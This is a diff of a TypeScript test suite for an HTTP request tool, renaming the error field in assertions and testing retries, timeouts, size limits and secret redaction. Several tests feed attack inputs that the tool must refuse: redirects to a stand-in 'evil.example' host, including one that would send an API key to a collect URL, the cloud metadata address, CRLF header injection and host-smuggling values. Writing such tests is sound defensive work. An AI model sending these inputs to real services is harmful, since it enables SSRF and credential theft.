@@ -185,7 +185,7 @@ describe('httpTool: requests and results', () => {
 describe('httpTool: statuses, errorMode, retries, limits', () => {
   it('a non-success status fails with the status and the start of the body', async () => {
     const e = failure((await call(make(weatherSpec, weatherConfig(), { secrets }), weatherSpec, { city: 'Atlantis' })).result);
-    expect(e.code).toBe('HTTP_ERROR');
+    expect(e.reason).toBe('HTTP_ERROR');
     expect(e.message).toContain('404');
     expect(e.message).toContain('no city named Atlantis');
     expect(e.details).toMatchObject({ status: 404 });
@@ -195,7 +195,7 @@ describe('httpTool: statuses, errorMode, retries, limits', () => {
   it('successCodes decides what succeeds', async () => {
     const s = spec('s', { code: { type: 'integer' } }, ['code'], {});
     const strict = make(s, { urlTemplate: `${api.origin}/status?code=\${code}`, successCodes: [200] });
-    expect(failure((await call(strict, s, { code: 201 })).result).code).toBe('HTTP_ERROR');
+    expect(failure((await call(strict, s, { code: 201 })).result).reason).toBe('HTTP_ERROR');
     const lenient = make(s, { urlTemplate: `${api.origin}/status?code=\${code}`, successCodes: [200, 404] });
     expect(value((await call(lenient, s, { code: 404 })).result)).toEqual({ error: 'status as asked' });
   });
@@ -211,13 +211,13 @@ describe('httpTool: statuses, errorMode, retries, limits', () => {
     expect(value((await call(noMatch, ss, {})).result)).toBe('');
     // but transport failures are never hidden
     const refused = make(ss, { urlTemplate: `${api.origin}/redirect?to=http%3A%2F%2Fevil.example%2F`, errorMode: 'empty' });
-    expect(failure((await call(refused, ss, {})).result).code).toBe('NET_HOST_NOT_ALLOWED');
+    expect(failure((await call(refused, ss, {})).result).reason).toBe('NET_HOST_NOT_ALLOWED');
   });
 
   it('unreadable JSON and extraction misses fail with their own codes', async () => {
     const s = spec('e', {}, [], {});
-    expect(failure((await call(make(s, { urlTemplate: `${api.origin}/not-json` }), s, {})).result).code).toBe('HTTP_INVALID_RESPONSE');
-    expect(failure((await call(make(s, { urlTemplate: `${api.origin}/weather?q=x`, extractExpr: '$.nope.none' }), s, {})).result).code).toBe('HTTP_EXTRACT_NO_MATCH');
+    expect(failure((await call(make(s, { urlTemplate: `${api.origin}/not-json` }), s, {})).result).reason).toBe('HTTP_INVALID_RESPONSE');
+    expect(failure((await call(make(s, { urlTemplate: `${api.origin}/weather?q=x`, extractExpr: '$.nope.none' }), s, {})).result).reason).toBe('HTTP_EXTRACT_NO_MATCH');
   });
 
   it('retries a GET after 503 with Retry-After, then succeeds', async () => {
@@ -238,13 +238,13 @@ describe('httpTool: statuses, errorMode, retries, limits', () => {
     const s = spec('f', {}, [], {});
     const tool = make(s, { urlTemplate: `${api.origin}/flaky?key=long&fails=5&status=429&after=3600`, retry: { maxAttempts: 3, maxRetryAfterMs: 1000 } });
     const e = failure((await call(tool, s, {})).result);
-    expect(e).toMatchObject({ code: 'HTTP_ERROR', retryable: true, details: { status: 429, retryAfterMs: 3_600_000 } });
+    expect(e).toMatchObject({ reason: 'HTTP_ERROR', retryable: true, details: { status: 429, retryAfterMs: 3_600_000 } });
   });
 
   it('does not retry a POST by default', async () => {
     const s = spec('f', {}, [], {});
     const tool = make(s, { method: 'POST', urlTemplate: `${api.origin}/flaky?key=post&fails=1`, bodyTemplate: '{}' });
-    expect(failure((await call(tool, s, {})).result).code).toBe('HTTP_ERROR');
+    expect(failure((await call(tool, s, {})).result).reason).toBe('HTTP_ERROR');
     expect(flaky.get('post')).toBe(1);
     const allowed = make(s, { method: 'POST', urlTemplate: `${api.origin}/flaky?key=post2&fails=1`, bodyTemplate: '{}', retry: { methods: ['POST'] } });
     expect(value((await call(allowed, s, {})).result)).toEqual({ attempt: 2 });
@@ -254,22 +254,22 @@ describe('httpTool: statuses, errorMode, retries, limits', () => {
     const s = spec('slow', {}, [], {});
     const tool = make(s, { urlTemplate: `${api.origin}/slow`, timeoutMs: 150, retry: { maxAttempts: 2, baseDelayMs: 0 } });
     const e = failure((await call(tool, s, {})).result);
-    expect(e).toMatchObject({ code: 'NET_TIMEOUT', retryable: true });
+    expect(e).toMatchObject({ reason: 'NET_TIMEOUT', retryable: true });
     expect(e.message).toContain('after 2 attempts');
   });
 
   it('refuses redirects to hosts not allowed', async () => {
     const s = spec('r', { to: text }, ['to'], {});
     const tool = make(s, { urlTemplate: `${api.origin}/redirect?to=\${to}` });
-    expect(failure((await call(tool, s, { to: 'http://evil.example/x' })).result).code).toBe('NET_HOST_NOT_ALLOWED');
-    expect(failure((await call(tool, s, { to: 'http://169.254.169.254/latest' })).result).code).toBe('NET_PRIVATE_ADDRESS');
+    expect(failure((await call(tool, s, { to: 'http://evil.example/x' })).result).reason).toBe('NET_HOST_NOT_ALLOWED');
+    expect(failure((await call(tool, s, { to: 'http://169.254.169.254/latest' })).result).reason).toBe('NET_PRIVATE_ADDRESS');
     expect(value((await call(tool, s, { to: '/echo' })).result)).toMatchObject({ url: '/echo' });
   });
 
   it('refuses oversized responses', async () => {
     const s = spec('big', {}, [], {});
     const tool = make(s, { urlTemplate: `${api.origin}/big`, responseEncoding: 'text', maxResponseBytes: 1024 * 1024 });
-    expect(failure((await call(tool, s, {})).result).code).toBe('NET_RESPONSE_TOO_LARGE');
+    expect(failure((await call(tool, s, {})).result).reason).toBe('NET_RESPONSE_TOO_LARGE');
   });
 });
 
@@ -284,7 +284,7 @@ describe('httpTool: arguments cannot change the request shape', () => {
     expect(await urlOf('%2e%2e')).toBe('/users/%252e%252e/profile');
     for (const id of ['..', '.', '']) {
       const e = failure((await call(userTool(), userSpec, { id })).result);
-      expect(e.code).toBe('TOOL_INVALID_ARGUMENTS');
+      expect(e.reason).toBe('TOOL_INVALID_ARGUMENTS');
       expect(e.message).toContain('"id"');
     }
   });
@@ -331,7 +331,7 @@ describe('httpTool: arguments cannot change the request shape', () => {
     const tool = make(s, { urlTemplate: `${api.origin}/echo`, headers: { 'Accept-Language': '${lang}' } });
     const before = api.requests.length;
     const e = failure((await call(tool, s, { lang: 'en\r\nX-Injected: 1' })).result);
-    expect(e.code).toBe('TOOL_INVALID_ARGUMENTS');
+    expect(e.reason).toBe('TOOL_INVALID_ARGUMENTS');
     expect(api.requests.length).toBe(before);
     const echoed = value((await call(tool, s, { lang: 'fr-CH, fr;q=0.9' })).result) as { headers: Record<string, string> };
     expect(echoed.headers['accept-language']).toBe('fr-CH, fr;q=0.9');
@@ -358,9 +358,9 @@ describe('httpTool: arguments cannot change the request shape', () => {
     const s = spec('h', { sub: text }, ['sub'], {});
     const tool = make(s, { urlTemplate: `http://\${sub}.example.test/x`, allowedHosts: ['*.example.test'] });
     const e = failure((await call(tool, s, { sub: 'evil.com/' })).result);
-    expect(e.code).toBe('TOOL_INVALID_ARGUMENTS');
+    expect(e.reason).toBe('TOOL_INVALID_ARGUMENTS');
     const e2 = failure((await call(tool, s, { sub: 'a@127.0.0.1' })).result);
-    expect(e2.code).toBe('TOOL_INVALID_ARGUMENTS');
+    expect(e2.reason).toBe('TOOL_INVALID_ARGUMENTS');
   });
 });
 
@@ -386,7 +386,7 @@ describe('httpTool: secrets never leave the tool', () => {
     expect(value(ok.result)).toMatchObject({ youSent: '[REDACTED]', auth: 'Bearer [REDACTED]' });
 
     const failed = await call(tool, s, { status: 500 });
-    expect(failure(failed.result).code).toBe('HTTP_ERROR');
+    expect(failure(failed.result).reason).toBe('HTTP_ERROR');
     for (const { result, events } of [ok, failed]) {
       const all = everything(result, events);
       for (const f of forms) expect(all).not.toContain(f);
@@ -398,11 +398,11 @@ describe('httpTool: secrets never leave the tool', () => {
     // the server redirects to a URL holding the key (the template puts it in the redirect target)
     const redirecting = make(s, { urlTemplate: `${api.origin}/redirect?to=http%3A%2F%2Fevil.example%2Fcollect%3Fk%3D\${API_KEY}` }, { secrets: provider });
     const r1 = await call(redirecting, s, {});
-    expect(failure(r1.result).code).toBe('NET_HOST_NOT_ALLOWED');
+    expect(failure(r1.result).reason).toBe('NET_HOST_NOT_ALLOWED');
     expect(JSON.stringify(failure(r1.result).details)).toContain('evil.example/collect?k=[REDACTED]');
     const slow = make(s, { urlTemplate: `${api.origin}/slow?key=\${API_KEY}`, timeoutMs: 100, retry: { maxAttempts: 1 } }, { secrets: provider });
     const r2 = await call(slow, s, {});
-    expect(failure(r2.result).code).toBe('NET_TIMEOUT');
+    expect(failure(r2.result).reason).toBe('NET_TIMEOUT');
     for (const { result, events } of [r1, r2]) {
       const all = everything(result, events);
       for (const f of forms) expect(all).not.toContain(f);
@@ -440,7 +440,7 @@ describe('httpTool: secrets never leave the tool', () => {
     const tool = make(s, { urlTemplate: `${api.origin}/reflect?key=\${API_KEY}` }, { secrets: (n) => (available && n === 'API_KEY' ? SECRET : undefined) });
     available = false;
     const before = api.requests.length;
-    expect(failure((await call(tool, s, {})).result).code).toBe('HTTP_SECRET_MISSING');
+    expect(failure((await call(tool, s, {})).result).reason).toBe('HTTP_SECRET_MISSING');
     expect(api.requests.length).toBe(before);
   });
 });
